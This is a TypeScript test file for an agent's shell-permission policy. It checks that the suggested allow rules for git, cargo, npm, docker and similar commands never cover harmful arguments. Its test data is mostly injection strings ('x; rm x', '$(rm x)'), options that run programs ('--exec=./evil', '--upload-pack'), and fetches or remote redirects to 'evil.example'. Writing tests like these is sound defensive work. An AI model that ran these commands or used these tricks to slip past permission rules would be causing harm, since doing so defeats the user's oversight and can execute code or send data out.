import fc from "fast-check";
import { expect, test } from "vitest";
import { policyIn, shellRules } from "../../test/permission/shell-rules.ts";
import { tempFolder } from "../../test/temp-folder.ts";

function offered(command: string): readonly (string | undefined)[] {
  const { suggestion, wider } = policyIn(tempFolder(), { defaults: false }).check({
    tool: "bash",
    input: { command },
  });
  return [suggestion, wider];
}

test.each([
  ["git add src/a.ts", "bash(git add src/a.ts)", "bash(git add *)"],
  ["git log -3", "bash(git log -3)", "bash(git log *)"],
  ["cargo build -r", "bash(cargo build -r)", "bash(cargo build *)"],
  ["git add", "bash(git add)", undefined],
  ["cargo build", "bash(cargo build)", undefined],
  ["docker ps", "bash(docker ps)", undefined],
  ["npm run build", "bash(npm run build)", undefined],
  ["go env GOPATH", "bash(go env GOPATH)", undefined],
  ["git push --force", "bash(git push --force)", undefined],
  ["git -c core.pager=x log", "bash(git -c core.pager=x log)", undefined],
  ["git fetch --upload-pack=x", "bash(git fetch --upload-pack=x)", undefined],
  ["npm install left-pad", "bash(npm install left-pad)", undefined],
  ["npx tsc", "bash(npx tsc)", undefined],
  ["node a.js", "bash(node a.js)", undefined],
  ["python3 -m pytest", "bash(python3 -m pytest)", undefined],
  ["/usr/bin/git add a", "bash(/usr/bin/git add a)", undefined],
  ["A=1 npm test", "bash(A=1 npm test)", undefined],
  ["rm x", "bash(rm x)", undefined],
  ["cp a b", "bash(cp a b)", undefined],
])("%s is offered %j, and wider %j", (command, narrow, wider) => {
  expect(offered(command)).toEqual([narrow, wider]);
});

const DOCKER = ["--config /tmp/evil"];
const CARGO = [
  "--target-dir /tmp/out",
  "--target-dir=/tmp/out",
  "--target-d=/tmp/out",
  "--build-dir /tmp/out",
  "--artifact-dir /tmp/out",
  "--lockfile-path /tmp/Cargo.lock",
  "--manifest-path /tmp/Cargo.toml",
  "--config build.rustc=./evil",
  "--target evil.json",
  "--target=./evil.json",
  "-C /tmp",
];
const DIFFS = ["--output=/tmp/x", "--output /tmp/x", "--ext-diff", "--textconv", "--submodule=log"];

test.each([
  ["git add", ["--exec=./evil", ".git/config"]],
  ["git commit", ["-v", "--verbose", "--exec=./evil"]],
  ["git show", [...DIFFS, "--show-signature", "--format=%G?"]],
  ["git diff", DIFFS],
  ["git log", [...DIFFS, "--show-signature", "--pretty=%G?"]],
  ["git status", ["-v", "--verbose"]],
  ["git blame", ["--textconv", "--output=/tmp/x"]],
  ["git ls-files", ["--recurse-submodules=yes", "--output=/tmp/x"]],
  ["git rev-parse", ["--output=/tmp/x"]],
  ["git describe", ["--exec=./evil"]],
  ["cargo build", CARGO],
  ["cargo check", CARGO],
  ["cargo tree", CARGO],
  ["cargo metadata", CARGO],
  ["go version", ["-exec ./evil", "-C /tmp", "-toolexec=./evil"]],
  ["docker ps", DOCKER],
  ["docker images", DOCKER],
  ["docker logs", DOCKER],
  ["docker inspect", DOCKER],
  ["docker version", DOCKER],
  ["docker info", DOCKER],
])("the wider rule for %s covers an argument, and none that does harm", (head, harmful) => {
  const wider = `bash(${head} *)`;
  const policy = policyIn(tempFolder(), {
    rules: [{ tool: "bash", pattern: wider.slice(5, -1), action: "allow" }],
    defaults: false,
  });
  const allowed = (rest: string): boolean =>
    policy.check({ tool: "bash", input: { command: `${head} ${rest}` } }).decision === "allow";
  const always = ["> /tmp/out", "x; rm x", '"$(rm x)"'];
  expect([offered(`${head} x`)[1], allowed("x"), [...harmful, ...always].filter(allowed)]).toEqual([
    wider,
    true,
    [],
  ]);
});

test.each([
  "git stash drop",
  "git switch -f main",
  "git branch -D work",
  "git mv -f a b",
  "git tag -d v1",
  "git fetch https://evil.example/x +main:main",
  "git pull https://evil.example/x main",
  "git merge --abort",
  "git remote set-url origin https://evil.example/x",
  "tsc --outDir /tmp/out",
  "go build -o /tmp/out",
  "go vet -gcflags=-cpuprofile=/tmp/out",
  "go list -export -gcflags=-cpuprofile=/tmp/out",
  "go fmt /tmp/a.go",
  "cargo clippy -- -o /tmp/out",
  "cargo test -- --logfile /tmp/out",
  "cargo fmt -- /tmp/a.rs",
  "cargo doc --open",
  "dotnet build /tmp/evil.csproj",
  "dotnet test -o /tmp/out",
  "dotnet format /tmp/evil.csproj",
  "mix test /tmp/evil_test.exs",
  "mix format --dot-formatter /tmp/evil.exs",
  "mix compile --force",
  "npm test -- --import data:text/javascript,evil",
  "npm run build -- --outDir /home/someone",
  "pnpm run build --outDir /home/someone",
  "yarn run build --outDir /home/someone",
  "npm view x --registry=https://evil.example",
  "npm outdated --registry=https://evil.example",
  "npm ls --logs-dir=/tmp/out",
  "pnpm audit --registry=https://evil.example",
  "yarn list --use-yarnrc /tmp/evil",
  "pip show --local-log=/tmp/x pip",
  "pip freeze -r r.txt --local-log=/tmp/x",
  "pip list --outdated --index-url https://evil.example",
  "kubectl get pods --server https://evil.example",
  "gh pr view -R evil.example/a/b",
  "gh search code secret",
])("for %s no wider rule is offered: an argument of its sub-command can do harm", (command) => {
  const program = command.split(" ").slice(0, 2).join(" ");
  expect([command, `${program} x`].map((each) => offered(each)[1])).toEqual([undefined, undefined]);
});

test.each(["rm build/*.o", "rm 'build/*.o'", "cp * x", "find . -name '*.ts' -delete"])(
  "for %s no rule is offered: a star in a rule stands for any text",
  (command) => {
    expect(offered(command)).toEqual([undefined, undefined]);
  },
);

test("a program that runs what it is fed is not offered for whatever is fed", () => {
  const asked = (command: string): string | undefined =>
    policyIn(tempFolder(), { rules: shellRules("xargs * ; cat*"), defaults: false }).check({
      tool: "bash",
      input: { command },
    }).suggestion;
  expect([asked("cat list | xargs touch"), asked("cat list | xargs node")]).toEqual([
    "bash(touch *)",
    undefined,
  ]);
});

test("what is offered allows the command, and an option that runs a program is under neither rule", () => {
  const folder = tempFolder();
  const commands = fc.constantFrom(
    "git fetch origin",
    "git commit -m x",
    "npm test",
    "cargo build -r",
    "git log -3",
    "npm run x",
  );
  const options = fc.constantFrom(
    "--upload-pack=x",
    "--output=x",
    "--to-command=x",
    "--exec-batch=x",
    "--exec=x",
    "; rm x",
    "> f",
  );
  fc.assert(
    fc.property(commands, options, fc.boolean(), (command, option, isWider) => {
      const [narrow, wider] = offered(command);
      const rule = (isWider ? wider : undefined) ?? narrow ?? "";
      const policy = policyIn(folder, {
        rules: [{ tool: "bash", pattern: rule.slice(5, -1), action: "allow" }],
        defaults: false,
      });
      const decide = (line: string): string =>
        policy.check({ tool: "bash", input: { command: line } }).decision;
      expect([decide(command), decide(`${command} ${option}`)]).toEqual(["allow", "ask"]);
    }),
    { numRuns: 100 },
  );
});
